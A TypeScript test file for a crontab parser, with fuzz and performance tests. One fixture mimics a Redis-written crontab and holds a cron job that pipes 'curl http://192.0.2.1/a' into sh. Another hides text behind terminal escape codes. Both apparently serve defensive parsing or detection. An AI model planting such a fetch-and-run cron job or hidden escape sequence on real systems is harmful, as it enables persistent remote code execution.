import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { assertGrowsLinearly } from '../../../test/growth.ts'
import { bytesOf, textOf } from '../../core/bytes.ts'
import { type CronJob, type CrontabForm, parseCrontab } from './crontab.ts'

const jobs = (text: string, form: CrontabForm = 'user'): CronJob[] =>
  [...parseCrontab(bytesOf(text), form)].filter(item => item.what === 'job')

const brief = (text: string, form: CrontabForm = 'user') => jobs(text, form).map(j => [j.when, j.user, j.command, j.input])

test('what crons would run', () => {
  for (const [line, when, command] of [
    ['* * * * * a b', '* * * * *', 'a b'],
    ['\t*/5\t0-6/2 1,15 JAN-mar Sun,2-7  x', '*/5 0-6/2 1,15 JAN-mar Sun,2-7', 'x'],
    ['-*/1 * * * * quiet', '*/1 * * * *', 'quiet'],
    ['0~59 ~ * * * random', '0~59 ~ * * *', 'random'],
    ['@reboot /tmp/x', '@reboot', '/tmp/x'],
    ['@Midnight\tx', '@Midnight', 'x'],
    ['* * * * * A=1 x', '* * * * *', 'A=1 x'],
    ['@hourly ID=a x', '@hourly', 'ID=a x'],
    ['0 0 1 january * BusyBox', '0 0 1 january *', 'BusyBox'],
    ['* * * * * crlf\r', '* * * * *', 'crlf'],
    ['* * * * * x;\u001b[2K\rno crontab for root', '* * * * *', 'x;\u001b[2K\rno crontab for root'],
  ] as const)
    assert.deepEqual(brief(line.endsWith('\r') ? `${line}\n` : line), [[when, '', command, '']], line)
})

test('what crons would not run', () => {
  for (const line of [
    '# * * * * * x',
    ' \t# x',
    '* * * * *',
    '* * * * x y',
    '60 * * * * x',
    '* 24 * * * x',
    '* * 0 * * x',
    'this is no cron line at all',
    '@boot x',
    '@reboot',
    'SHELL=/bin/sh',
    '\ufeff* * * * * x',
    '1-2-3 * * * * x',
    '*/x * * * * x',
  ])
    assert.deepEqual(brief(line), [], line)
})

test('user column, and its absence', () => {
  assert.deepEqual(brief('* * * * * root  x y', 'system'), [['* * * * *', 'root', 'x y', '']])
  assert.deepEqual(brief('@daily www-data:web x', 'system'), [['@daily', 'www-data:web', 'x', '']])
  assert.deepEqual(brief('* * * * * /tmp/x y', 'system'), [['* * * * *', '', '/tmp/x y', '']])
  assert.deepEqual(brief('* * * * * root', 'system'), [])
})

test('percent: input, escapes by parity, and nothing of it in BusyBox', () => {
  assert.deepEqual(brief('* * * * * sh % a%b'), [['* * * * *', '', 'sh', ' a\nb']])
  assert.deepEqual(brief('* * * * * date +\\%F'), [['* * * * *', '', 'date +%F', '']])
  assert.deepEqual(brief('* * * * * a\\\\%b'), [['* * * * *', '', 'a\\\\', 'b']])
  assert.deepEqual(brief('* * * * * a %b', 'busybox'), [['* * * * *', '', 'a %b', '']])
})

test('variables by any spelling', () => {
  const found = [...parseCrontab(bytesOf('SHELL=/bin/sh\n  "A B" = \'c d\' \nPATH = /tmp:/bin\nMAILTO=""\n'), 'user')]
  assert.deepEqual(
    found.map(v => v.what === 'variable' && [v.name, v.value]),
    [
      ['SHELL', '/bin/sh'],
      ['A B', 'c d'],
      ['PATH', '/tmp:/bin'],
      ['MAILTO', ''],
    ],
  )
})

test('a backslash at the end takes the next line along unless that stands for itself', () => {
  assert.deepEqual(
    jobs('* * * * * a \\\n  b\n* * * * * c \\\n* * * * * d\n').map(j => [j.command, j.line]),
    [
      ['a b', 1],
      ['c \\', 3],
      ['d', 4],
    ],
  )
})

test('jobs between binary garbage, as Redis leaves them', () => {
  const text = 'REDIS0009\udcfa\u0001x\u0000\n\n*/2 * * * * curl http://192.0.2.1/a|sh\n\n\udcff\u0000'
  assert.deepEqual(brief(text), [['*/2 * * * *', '', 'curl http://192.0.2.1/a|sh', '']])
})

test('a long line takes as long as it is', () => {
  for (const [before, piece, after] of [
    ['', '* ', ''],
    ['', '\\', ''],
    ['* * * * * ', '%\\', ''],
    ['a', ' ', 'b'],
  ] as const)
    for (const form of ['user', 'system', 'busybox'] as const)
      assertGrowsLinearly(
        size => assert.ok(jobs(`${before}${piece.repeat(size / piece.length)}${after}`, form).length <= 1),
        8192,
        `${form}: ${before}${piece}`,
      )
})

const piece = fc.constantFrom(
  '* * * * * ',
  '@reboot',
  ' ',
  'root',
  'x',
  '\\',
  '%',
  '\n',
  '\r\n',
  '\0',
  '#',
  '=',
  '"',
  '1-5/2',
  'mon',
  '\udcff',
)
const anyText = fc.array(piece, { maxLength: 40 }).map(parts => parts.join(''))
const anyForm = fc.constantFrom<CrontabForm>('user', 'system', 'busybox')

test('any bytes: never throws; spans lie in order and hold the text as written', () => {
  fc.assert(
    fc.property(fc.oneof(fc.uint8Array({ maxLength: 300 }), anyText.map(bytesOf)), anyForm, (bytes, form) => {
      let last = 0
      for (const { span, text } of parseCrontab(bytes, form)) {
        assert.ok(span.start >= last && span.end > span.start && span.end <= bytes.length)
        last = span.end
        assert.match(textOf(bytes.subarray(span.start, span.end)).slice(text.length), /^\r?\n?$/)
        assert.ok(textOf(bytes.subarray(span.start, span.end)).startsWith(text))
      }
    }),
  )
})
